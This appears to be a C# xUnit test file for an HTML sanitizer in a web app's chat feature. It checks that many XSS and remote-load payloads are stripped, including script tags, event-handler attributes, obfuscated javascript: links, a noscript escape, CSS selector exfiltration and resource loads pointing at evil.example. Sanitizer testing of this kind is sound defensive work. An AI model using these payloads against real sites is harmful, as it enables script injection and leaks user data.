using AiCollab.Web.Features.Workspace.Chat;
using FluentAssertions;
using Xunit;

namespace AiCollab.Tests.Web.Features.Workspace.Chat;

public sealed class HtmlPolicyTests
{
    private readonly HtmlPolicy _policy = new();

    [Theory]
    [InlineData("<p>a</p><script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<a href='javascript:alert(1)' onclick='alert(1)'>x</a>")]
    [InlineData("<a href=\"java\nscript:alert(1)\">x</a>")]
    [InlineData("<svg/onload=alert(1)>")]
    [InlineData("<p style='background-image:url(https://evil.example/?q)'>x</p>")]
    [InlineData("<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(https://evil.example/a)}</style>")]
    [InlineData("<table background='https://evil.example/x.png'><tr><td background='https://evil.example/y.png'>x</td></tr></table>")]
    [InlineData("<video poster='https://evil.example/p.png'><source src='https://evil.example/v'></video>")]
    [InlineData("<link rel=stylesheet href=https://evil.example/x.css>")]
    [InlineData("<meta http-equiv=refresh content='0;url=https://evil.example'>")]
    [InlineData("<object data=https://evil.example></object><embed src=https://evil.example>")]
    [InlineData("<p id=cookie name=body class=mud-dialog>x</p>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<img src='https://evil.example/a.png' srcset='https://evil.example/b.png 2x'>")]
    [InlineData("<base href='https://evil.example/'>")]
    public void Removes_everything_that_runs_loads_styles_or_names(string html)
    {
        var safe = _policy.Clean(html);

        safe.Should().NotMatchRegex("(?i)<(script|img|svg|style|link|meta|video|source|object|embed|base|iframe|noscript)");
        safe.Should().NotMatchRegex("(?i)<[^>]*\\s(on\\w+|style|src|srcset|background|poster|id|name|class)\\s*=");
        safe.Should().NotMatchRegex("(?i)script:");
    }

    [Fact]
    public void Keeps_a_table_of_a_run() =>
        _policy.Clean("<table border=\"1\" class=\"dataframe\"><thead><tr><th></th><th colspan=\"2\">a</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>")
            .Should().Be("<table><thead><tr><th></th><th colspan=\"2\">a</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>");
}
